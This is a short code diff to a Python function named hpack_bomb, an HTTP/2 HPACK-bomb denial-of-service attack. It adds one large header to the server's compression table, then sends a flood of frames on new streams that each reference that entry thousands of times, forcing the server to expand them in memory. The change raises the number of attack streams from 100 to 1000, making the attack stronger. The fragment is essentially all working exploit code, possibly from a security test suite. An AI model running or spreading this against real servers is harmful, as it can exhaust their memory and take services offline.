@@ -77,7 +77,7 @@ def hpack_bomb(sock, connection):
     entry = b"\x40" + bytes([len(name)]) + name + b"\x7f" + bytes([(len(value) - 127) % 128 | 128, (len(value) - 127) // 128]) + value
     start = connection.encoder.encode(HEAD)
     sock.sendall(frame(1, 5, 1, start + entry))
-    for number in range(100):
+    for number in range(1000):
         stream = 2 * number + 3
         # 62: the newest entry.
         sock.sendall(frame(1, 5, stream, start + b"\xbe" * 4000))
